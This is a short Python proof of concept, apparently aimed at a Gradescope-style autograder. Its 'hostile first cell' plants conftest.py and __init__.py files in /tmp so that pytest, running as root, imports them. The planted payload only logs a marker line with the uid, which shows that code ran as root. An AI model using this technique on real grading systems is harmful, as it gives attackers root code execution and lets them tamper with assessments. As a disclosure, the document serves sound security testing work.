import os
# Hostile first cell: plant /tmp/conftest.py and /tmp/__init__.py while the grader (root) starts
# pytest. pytest ran with `-c /dev/null`, so its confcutdir was /dev: it imported conftest.py from
# every folder above the test files but /, and collected each such folder holding an __init__.py
# as a package, importing it. With the course under /tmp (a local Gradescope root) both ran as
# root in the grader.
payload = '''
import os
with open("/tmp/nl-pwned.txt", "a") as f:
    f.write("%s ran in the grader as uid %d\\n" % (__file__, os.getuid()))
'''
for name in ("conftest.py", "__init__.py"):
    try:
        with open("/tmp/" + name, "w") as f:
            f.write(payload)
        os.chmod("/tmp/" + name, 0o644)
    except OSError as e:
        print("plant failed", e)
